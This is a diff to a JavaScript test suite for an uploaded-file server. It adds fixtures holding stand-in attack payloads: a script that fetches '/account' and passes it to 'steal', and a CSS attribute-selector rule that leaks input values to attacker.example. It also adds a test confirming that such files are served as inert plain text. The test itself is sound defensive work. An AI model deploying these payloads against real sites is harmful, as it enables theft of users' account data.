@@ -41,6 +41,9 @@ beforeAll(async () => {
   writeFileSync(join(directory, 'photos', 'cat.png'), 'png!');
   writeFileSync(join(directory, 'report.pdf'), '%PDF-1.4');
   writeFileSync(join(directory, 'page.html'), '<script>alert(1)</script>');
+  writeFileSync(join(directory, 'evil.js'), 'fetch("/account").then((r) => r.text()).then(steal)');
+  writeFileSync(join(directory, 'evil.mjs'), 'export default steal()');
+  writeFileSync(join(directory, 'evil.css'), 'input[value^="a"] { background: url(https://attacker.example/a) }');
   writeFileSync(join(directory, 'space name.txt'), 'spaced');
   writeFileSync(join(directory, 'big.bin'), Buffer.alloc(3_000_000, 1));
   writeFileSync(join(root, 'secret.txt'), 'outside');
@@ -90,6 +93,18 @@ describe('UploadedFileServer', () => {
     const html = await get('/_upload/page.html');
     expect(html.headers['content-disposition']).toBe('attachment');
     expect(html.headers['x-content-type-options']).toBe('nosniff');
+  });
+
+  it('serves scripts and style sheets as plain text, so a page of the origin cannot load one as its script or style', async () => {
+    // A script or style sheet stored by a user and served from the app's origin with its executable type is a
+    // subresource any HTML injection can pull in past a \`script-src 'self'\` CSP (or register as a service worker):
+    // Content-Disposition and the response's own CSP do not stop <script src>. With nosniff, browsers refuse to run
+    // or apply a text/plain file.
+    for (const path of ['/_upload/evil.js', '/_upload/evil.mjs', '/_upload/evil.css']) {
+      const reply = await get(path);
+      expect([path, reply.status, reply.headers['content-type'], reply.headers['x-content-type-options']]).toEqual([path, 200, 'text/plain; charset=utf-8', 'nosniff']);
+      expect(reply.headers['content-disposition']).toBe('attachment');
+    }
   });
 
   it('decodes percent-encoded names, ignores a query, and streams large files whole', async () => {
